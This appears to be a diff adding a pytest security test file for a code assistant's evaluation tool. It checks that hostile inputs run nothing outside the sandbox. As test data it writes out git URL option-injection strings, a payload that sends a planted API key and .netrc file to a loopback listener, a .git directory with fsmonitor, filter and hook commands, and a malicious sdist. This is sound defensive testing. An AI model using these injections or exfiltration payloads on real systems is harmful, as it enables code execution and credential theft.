@@ -1,0 +1,212 @@
+"""eval's doors, tried as an attacker would, as root: what a case file, a cloned repository or a downloaded package
+holds never runs outside the sandbox, and the local Dask cluster answers only this eval.
+
+Each attack plants fake secrets (a key in the environment, a credential file in HOME) and carries a payload that
+writes a marker and sends the key to a listener on 127.0.0.1: nothing may arrive, and no marker may appear.
+"""
+from __future__ import annotations
+
+import functools
+import io
+import json
+import os
+import subprocess
+import sys
+import tarfile
+import threading
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+
+from code_assistant import vcs
+from code_assistant.evaluate.cases import Source, SourceKind
+from code_assistant.evaluate.scratch import ScratchError, materialize
+from code_assistant.verify.sandbox import Backend, resolve
+from tests.repos import ROOT, Listener, python_repo, snapshot
+
+KEY = "sk-planted-eval-doors-0123456789"
+SHA = "0123456789abcdef0123456789abcdef01234567"
+
+
+@pytest.fixture
+def planted(isolated_env: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A key in the environment and a credential file in HOME, as a developer's machine has them."""
+    monkeypatch.setenv("OPENAI_API_KEY", KEY)
+    (isolated_env / ".netrc").write_text(f"machine example.invalid login me password {KEY}\n")
+    return isolated_env
+
+
+def payload(marker: Path, port: int) -> str:
+    """A shell command: a marker, then the key and HOME's files to the listener."""
+    send = (f"import os,socket;s=socket.create_connection(('127.0.0.1',{port}));"
+            "s.sendall((os.environ.get('OPENAI_API_KEY','')+open(os.path.expanduser('~/.netrc')).read()).encode())")
+    return f"touch {marker}; {sys.executable} -c \"{send}\""
+
+
+def eval_cli(args: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, str(ROOT / "main.py"), "eval", *args], cwd=cwd, capture_output=True,
+                          text=True, timeout=300, stdin=subprocess.DEVNULL, check=False)
+
+
+# ----- hole 1: a case's repo field that git would read as an option ----------------------------------------------
+@pytest.mark.parametrize("url", ["--upload-pack=:;{payload}", "ext::sh -c {payload}", "ssh://-oProxyCommand={payload}/r",
+                                 "-c core.sshCommand={payload}"])
+def test_a_case_whose_git_url_is_an_option_or_a_command_runs_nothing(tmp_path: Path, planted: Path, url: str) -> None:
+    marker = tmp_path / "marker"
+    with Listener() as listener:
+        hostile = url.format(payload=payload(marker, listener.port))
+        cases = tmp_path / "cases.jsonl"
+        case = {"id": "evil", "repo": {"git": hostile, "commit": SHA}, "task": "t", "test_command": "pytest"}
+        cases.write_text(json.dumps(case) + "\n")
+        proc = eval_cli([str(cases), "--out", "out"], tmp_path)
+    assert proc.returncode == 2, proc.stdout + proc.stderr
+    assert len(proc.stderr.strip().splitlines()) == 1 and proc.stderr.startswith(f"error: {cases}:1: a git repo")
+    assert not marker.exists() and listener.received == []
+    assert not (tmp_path / "out").exists()
+
+
+def test_below_the_case_file_a_url_that_is_an_option_still_reaches_no_git(tmp_path: Path, planted: Path) -> None:
+    """The second lock: a Source made without the case file's check (a cluster worker, a future door) is refused by
+    the scratch copy, and git itself is given the URL after `--`."""
+    marker = tmp_path / "marker"
+    with Listener() as listener:
+        hostile = f"--upload-pack=:;{payload(marker, listener.port)}"
+        with pytest.raises(ScratchError, match="refused"):
+            materialize(Source(SourceKind.GIT, hostile, SHA), tmp_path / "repo", resolve("off"))
+        (tmp_path / "bare").mkdir()
+        vcs.untrusted_git(tmp_path / "bare", "init", "-q")
+        with pytest.raises(vcs.GitError):
+            vcs.untrusted_git(tmp_path / "bare", "fetch", "-q", "--", hostile, "HEAD")
+    assert not marker.exists() and listener.received == []
+
+
+# ----- hole 3: a .git shipped by a repository or a package ---------------------------------------------------------
+def hostile_git_dir(git_dir: Path, marker: Path, port: int) -> None:
+    """A .git whose config and hooks run the payload at the first git command in its tree."""
+    (git_dir / "objects").mkdir(parents=True)
+    (git_dir / "refs" / "heads").mkdir(parents=True)
+    (git_dir / "hooks").mkdir()
+    (git_dir / "HEAD").write_text("ref: refs/heads/main\n")
+    command = payload(marker, port).replace('"', '\\"')
+    (git_dir / "config").write_text(f'[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "{command}"\n'
+                                    f'[filter "x"]\n\tclean = "{command}"\n\tsmudge = "{command}"\n')
+    for hook in ("post-checkout", "pre-commit", "post-commit", "post-index-change"):
+        (git_dir / "hooks" / hook).write_text(f"#!/bin/sh\n{payload(marker, port)}\n")
+        (git_dir / "hooks" / hook).chmod(0o755)
+
+
+def git_as_the_agent_runs_it(repo: Path) -> None:
+    """What the agent's own process runs on the scratch copy, outside the sandbox: plain git, the user's config."""
+    vcs.git(repo, "status", "--porcelain")
+    vcs.try_git(repo, "ls-files", "-co", "--exclude-standard", "-z")
+    vcs.git(repo, "-c", "user.name=a", "-c", "user.email=a@b.invalid", "commit", "-q", "--allow-empty", "-m", "x")
+
+
+def test_a_path_case_that_ships_a_hostile_git_is_copied_without_it(tmp_path: Path, planted: Path) -> None:
+    marker = tmp_path / "marker"
+    tree = python_repo(tmp_path, git=False)
+    (tree / ".gitattributes").write_text("* filter=x\n")
+    with Listener() as listener:
+        hostile_git_dir(tree / ".git", marker, listener.port)
+        before = snapshot(tree)
+        repo = materialize(Source(SourceKind.PATH, str(tree)), tmp_path / "scratch" / "repo", resolve("off"))
+        git_as_the_agent_runs_it(repo)
+    assert not marker.exists() and listener.received == []
+    assert "fsmonitor" not in (repo / ".git" / "config").read_text() and snapshot(tree) == before
+    assert (repo / "calc.py").read_text() == (tree / "calc.py").read_text()
+
+
+def sdist(where: Path, marker: Path, port: int) -> Path:
+    """evil-1.0.tar.gz: an sdist with an in-tree build backend (pip runs it, in the sandbox, to read the metadata)
+    that ships a hostile `.git` and a `.gitattributes` naming its filter."""
+    backend = ("import os\n\ndef get_requires_for_build_wheel(config_settings=None):\n    return []\n\n"
+               "def prepare_metadata_for_build_wheel(directory, config_settings=None):\n"
+               "    info = os.path.join(directory, 'evil-1.0.dist-info')\n    os.makedirs(info)\n"
+               "    open(os.path.join(info, 'METADATA'), 'w').write('Metadata-Version: 2.1\\nName: evil\\n"
+               "Version: 1.0\\n')\n    return 'evil-1.0.dist-info'\n\n"
+               "def build_wheel(directory, config_settings=None, metadata_directory=None):\n    raise SystemExit(1)\n")
+    files = {"evil-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
+             "evil-1.0/pyproject.toml": ('[build-system]\nrequires = []\nbuild-backend = "backend"\n'
+                                         'backend-path = ["."]\n'),
+             "evil-1.0/backend.py": backend, "evil-1.0/calc.py": "def add(a, b):\n    return a - b\n",
+             "evil-1.0/.gitattributes": "* filter=x\n"}
+    shipped = where / "shipped"
+    hostile_git_dir(shipped / ".git", marker, port)
+    archive = where / "evil-1.0.tar.gz"
+    with tarfile.open(archive, "w:gz") as tar:
+        for name, text in files.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(text.encode())
+            tar.addfile(info, io.BytesIO(text.encode()))
+        tar.add(shipped / ".git", arcname="evil-1.0/.git")
+    return archive
+
+
+class Index:
+    """A PyPI simple index on 127.0.0.1 serving one sdist."""
+
+    def __init__(self, root: Path, archive: Path) -> None:
+        (root / "simple" / "evil").mkdir(parents=True)
+        (root / "packages").mkdir()
+        archive.rename(root / "packages" / archive.name)
+        (root / "simple" / "evil" / "index.html").write_text(
+            f'<html><body><a href="../../packages/{archive.name}">{archive.name}</a></body></html>\n')
+        handler = functools.partial(SimpleHTTPRequestHandler, directory=str(root))
+        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/simple"
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+@pytest.mark.parametrize("backend", [Backend.BUBBLEWRAP, Backend.LANDLOCK])
+def test_an_sdist_from_a_loopback_index_that_ships_a_hostile_git_runs_nothing_outside(
+        tmp_path: Path, planted: Path, monkeypatch: pytest.MonkeyPatch, backend: Backend) -> None:
+    """The download runs in the sandbox (both backends: under Landlock it used to fail to write the archive), the
+    shipped `.git` is never unpacked, and git on the copy, the eval's and the agent's, runs nothing of the package."""
+    marker = tmp_path / "marker"
+    sandbox = resolve("write", "bwrap" if backend == Backend.BUBBLEWRAP else str(tmp_path / "no-bwrap"))
+    if sandbox.backend != backend:
+        pytest.skip(f"no {backend} here")
+    with Listener() as listener:
+        index = Index(tmp_path / "index", sdist(tmp_path, marker, listener.port))
+        monkeypatch.setenv("PIP_INDEX_URL", index.url)
+        try:
+            repo = materialize(Source(SourceKind.PYPI, "evil==1.0"), tmp_path / "scratch" / "repo", sandbox)
+        finally:
+            index.close()
+        git_as_the_agent_runs_it(repo)
+    assert not marker.exists() and listener.received == []
+    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
+    assert "fsmonitor" not in (repo / ".git" / "config").read_text()
+    assert (repo / "calc.py").is_file() and (repo / ".gitattributes").is_file()
+    assert sorted(p.name for p in (tmp_path / "scratch").iterdir()) == ["repo"], "the download folder is gone"
+
+
+def test_an_archive_drops_every_git_at_any_depth_and_keeps_the_rest(tmp_path: Path) -> None:
+    from code_assistant.evaluate.scratch import shipped_git
+
+    assert [n for n in ("package/.git/config", ".git", "a/b/.git", "package/src/x.py", "package/.gitignore",
+                        "package/.github/workflows/ci.yml", "package/x.git") if shipped_git(n)] == \
+        ["package/.git/config", ".git", "a/b/.git"]
+
+
+# ----- the git hardening itself -----------------------------------------------------------------------------------
+def test_untrusted_git_reads_neither_the_system_nor_the_users_config(tmp_path: Path, planted: Path) -> None:
+    """A user's global config (here HOME's, planted with a fsmonitor) is not read for a tree the user did not make;
+    the same command with plain git reads it (so the test can fail)."""
+    marker = tmp_path / "marker"
+    (planted / ".gitconfig").write_text(f'[core]\n\tfsmonitor = "touch {marker}"\n')
+    repo = tmp_path / "r"
+    repo.mkdir()
+    vcs.untrusted_git(repo, "init", "-q")
+    vcs.untrusted_git(repo, "status", "--porcelain")
+    assert not marker.exists()
+    vcs.try_git(repo, "status", "--porcelain")
+    assert marker.exists(), "plain git reads HOME's config: the check above means something"
+    env = vcs.untrusted_environment()
+    assert env["GIT_CONFIG_GLOBAL"] == "/dev/null" and env["GIT_CONFIG_NOSYSTEM"] == "1"
+    assert os.environ.get("GIT_DIR") is None or "GIT_DIR" not in env
